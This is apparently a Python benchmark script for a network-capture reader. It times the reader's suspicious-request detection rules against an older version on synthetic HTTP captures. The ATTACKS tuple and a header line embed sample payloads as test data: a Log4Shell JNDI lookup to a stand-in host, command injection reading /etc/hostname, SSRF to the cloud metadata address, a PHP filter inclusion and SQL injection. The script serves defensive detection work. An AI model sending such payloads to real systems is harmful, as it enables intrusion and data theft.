"""What the suspicious-request rules cost `read`: this tree against an older one, on two captures.

    sudo .venv/bin/python benchmarks/rules_cost.py --before TREE [--capture FILE] [--runs 5] [--instructions]

The captures: the 300,000-packet keep-alive capture of read_vs_tshark.py
(--capture, else made here), where every request is the same; and one made
here where every target differs, as a crawl or a scan makes them: 50,000
requests on keep-alive connections with browser-like headers, a tenth carrying
a search query, a few hundred carrying attacks in the target or a header.
Each tree reads each capture with `read --json -q` (best of --runs, CPU seconds
of the process); the figure is the ratio of this tree to TREE.  CPU seconds move
by several percent from run to run on a small VM, so --instructions also counts
the instructions of one read per tree under callgrind (valgrind), which repeat
to a few in a million.  Both trees' bytecode is compiled first: a tree without
it would count compiling itself.  Appends the figures to benchmarks/RESULTS.md.
"""

from __future__ import annotations

import argparse
import random
import re
import resource
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from scapy.utils import PcapWriter  # noqa: E402

from benchmarks.read_vs_tshark import keep_alive_capture  # noqa: E402
from benchmarks.results import append_results, compile_bytecode  # noqa: E402
from tests.pcaps.hostile import Conversation  # noqa: E402

BROWSER = (b"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0\r\n"
           b"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
           b"Accept-Language: en-US,en;q=0.5\r\nCookie: session=REDACTED; theme=dark\r\n")
ATTACKS = (b"/search?q=${jndi:ldap://x.example/a}", b"/ping?host=1.1.1.1;cat%20/etc/hostname",
           b"/fetch?url=http://169.254.169.254/latest/", b"/index.php?page=php://filter/resource=x",
           b"/?id=1'%20or%201=1--")
WORDS = ("shoes", "red dress", "kubernetes", "sql injection explained", "cat & dog", "log4j jndi", "env vars")


def varied_capture(path: Path, requests: int, per_connection: int = 100) -> None:
    """Every target differs: ids, slugs, a tenth with a search query, one in 200 an attack."""
    rng = random.Random(20)
    writer = PcapWriter(str(path), linktype=1)
    sent = 0
    while sent < requests:
        conversation = Conversation(start=1_700_000_000.0 + sent)
        conversation.handshake()
        for _ in range(min(per_connection, requests - sent)):
            headers = BROWSER
            if sent % 200 == 7:
                target = rng.choice(ATTACKS)
            elif sent % 10 == 3:
                target = b"/search?q=" + rng.choice(WORDS).replace(" ", "+").encode() + b"&page=%d" % rng.randrange(9)
            else:
                target = b"/shop/item-%d/reviews/%x" % (sent, rng.getrandbits(32))
            if sent % 500 == 11:
                headers += b"X-Api-Version: ${jndi:ldap://x.example/h}\r\n"
            conversation.send(True, b"GET " + target + b" HTTP/1.1\r\nHost: shop.example\r\n" + headers + b"\r\n")
            conversation.send(False, b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\nhello")
            sent += 1
        conversation.close()
        writer.write(conversation.packets)
    writer.close()


def cpu_of_read(tree: str, capture: Path, runs: int) -> tuple[float, int]:
    """Best CPU seconds of `read --json -q` from ``tree``, and the lines it printed."""
    best, lines = float("inf"), 0
    for _ in range(runs):
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        result = subprocess.run([sys.executable, "-m", "eyes_devine", "read", "--json", "-q", str(capture)],
                                capture_output=True, text=True, cwd=tree)
        after = resource.getrusage(resource.RUSAGE_CHILDREN)
        if result.returncode != 0:
            sys.exit(f"rules_cost.py: read in {tree} failed: {result.stderr.strip()[-500:]}")
        best = min(best, after.ru_utime - before.ru_utime + after.ru_stime - before.ru_stime)
        lines = result.stdout.count("\n")
    return best, lines


def instructions_of_read(tree: str, capture: Path) -> int:
    """Instructions of one `read --json -q` from ``tree``, counted by callgrind."""
    with tempfile.NamedTemporaryFile(prefix="edr-callgrind-") as out:
        result = subprocess.run(["valgrind", "--tool=callgrind", f"--callgrind-out-file={out.name}", sys.executable,
                                 "-m", "eyes_devine", "read", "--json", "-q", str(capture)],
                                stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, cwd=tree)
    found = re.search(r"Collected : (\d+)", result.stderr)
    if result.returncode != 0 or found is None:
        sys.exit(f"rules_cost.py: callgrind of read in {tree} failed: {result.stderr.strip()[-500:]}")
    return int(found.group(1))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--before", required=True, metavar="TREE", help="an older checkout of eyes-devine")
    parser.add_argument("--capture", type=Path, help="the keep-alive capture (default: make the 300k-packet one)")
    parser.add_argument("--requests", type=int, default=50_000)
    parser.add_argument("--runs", type=int, default=5)
    parser.add_argument("--instructions", action="store_true",
                        help="also count each tree's instructions under callgrind (needs valgrind)")
    args = parser.parse_args()
    if args.instructions and shutil.which("valgrind") is None:
        sys.exit("rules_cost.py: --instructions needs valgrind (apt-get install valgrind)")
    for tree in (str(ROOT), args.before):
        compile_bytecode(tree)
    lines = []
    with tempfile.TemporaryDirectory(prefix="edr-") as tmp:
        workdir = Path(tmp)
        keep_alive = keep_alive_capture(args.capture, workdir)
        varied = workdir / "varied.pcap"
        varied_capture(varied, args.requests)
        for name, capture in (("keep-alive, one target", keep_alive), ("every target differs", varied)):
            # Alternate the trees, so a slower minute of the VM weighs on both.
            ours, theirs = (float("inf"), 0), (float("inf"), 0)
            for _ in range(args.runs):
                ours = min(ours, cpu_of_read(str(ROOT), capture, 1))
                theirs = min(theirs, cpu_of_read(args.before, capture, 1))
            lines.append(f"{name}: this tree {ours[0]:.2f} CPU s, {args.before} {theirs[0]:.2f} CPU s, "
                         f"{ours[0] / theirs[0] - 1:+.1%} (target <= +5%); {ours[1]:,} and {theirs[1]:,} exchanges")
            print(lines[-1], flush=True)
            if args.instructions:
                mine, older = instructions_of_read(str(ROOT), capture), instructions_of_read(args.before, capture)
                lines.append(f"{name}, callgrind: this tree {mine / 1e9:.3f}G instructions, {args.before} "
                             f"{older / 1e9:.3f}G, {mine / older - 1:+.2%} (target <= +5%)")
                print(lines[-1], flush=True)
    append_results("rules cost", lines)


if __name__ == "__main__":
    main()
